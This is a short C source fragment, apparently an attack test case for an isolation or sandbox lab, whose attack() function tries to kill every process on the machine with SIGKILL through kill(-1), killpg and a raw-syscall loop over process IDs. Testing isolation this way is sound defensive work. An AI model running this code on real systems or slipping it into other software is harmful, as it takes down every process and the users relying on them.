/* Attack: kills every process it can name, first by the functions of C, then by system calls.
 * Labs: 02 07
 * Isolated: yes */
#include <signal.h>
#include <sys/syscall.h>
#include <unistd.h>

static void attack(void)
{
    kill(-1, SIGKILL);
    killpg(1, SIGKILL);
    for (int pid = 1; pid < 70000; pid++)
        if (pid != getpid())
            syscall(SYS_kill, pid, SIGKILL);
    syscall(SYS_kill, -1, SIGKILL);
}
